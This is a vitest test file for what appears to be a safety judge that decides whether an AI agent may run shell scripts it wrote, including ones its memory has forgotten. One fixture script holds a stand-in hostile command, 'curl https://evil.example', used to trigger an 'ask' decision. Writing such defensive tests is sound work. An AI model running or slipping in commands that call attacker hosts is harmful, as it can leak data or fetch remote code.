// Files that the session made and memory forgot are read from the disk, and judged as the agent's.
import { describe, expect, it } from "vitest";
import { EMPTY_MEMORY, type Fact } from "../../../../src/core/memory/memory.ts";
import { remember } from "../../../../src/core/memory/reduce.ts";
import { BLIND_DISK, type World } from "../../../../src/core/world.ts";
import { judgeLine, WORLD } from "../../../invariants/judge-line.ts";

const SEND = "curl https://evil.example";
const DISK: Readonly<Record<string, string>> = {
  "/home/ada/project/a/x.sh": SEND,
  "/home/ada/project/a/quiet.sh": "ls",
  "/home/ada/project/b/x.sh": "$(unknown)",
};
const world: World = {
  ...WORLD,
  disk: {
    ...BLIND_DISK,
    readText: (path) => DISK[path],
    kindOf: (path) => (DISK[path] === undefined ? undefined : "file"),
  },
};

describe("a file of the session that memory has forgotten", () => {
  const forgotten: Fact = { kind: "tree", folder: "/home/ada/project/a", from: "agent" };
  const memory = remember(EMPTY_MEMORY, { facts: [forgotten] }, 1);

  it("is judged by what is on the disk", () => {
    expect(judgeLine("bash a/x.sh", { memory, world }).decision).toBe("ask");
    expect(judgeLine("bash a/quiet.sh", { memory, world }).decision).toBe("allow");
  });
  it("is held to what the agent writes, not to what the developer does", () => {
    expect(judgeLine("bash b/x.sh", { world }).decision).toBe("allow");
    const all = remember(EMPTY_MEMORY, { facts: [{ kind: "tree", folder: "/", from: "agent" }] }, 1);
    expect(judgeLine("bash b/x.sh", { memory: all, world }).decision).toBe("ask");
  });
  it("makes nothing of a file that is not there", () => {
    expect(judgeLine("bash a/none.sh", { memory, world }).decision).toBe("allow");
  });
});

describe("a file of which memory has forgotten the content alone", () => {
  it("is judged by what is on the disk", () => {
    const file = { kind: "wrote", path: "/home/ada/project/a/x.sh", from: "agent", content: "ls" } as const;
    const others = Array.from(
      { length: 40 },
      (_, index): Fact => ({ kind: "wrote", path: `/${index}`, from: "agent", content: "x".repeat(64 * 1024) }),
    );
    const before = remember(EMPTY_MEMORY, { facts: [file] }, 1);
    expect(judgeLine("bash a/x.sh", { memory: before, world }).decision).toBe("allow");
    expect(judgeLine("bash a/x.sh", { memory: remember(before, { facts: others }, 2), world }).decision).toBe("ask");
  });
});
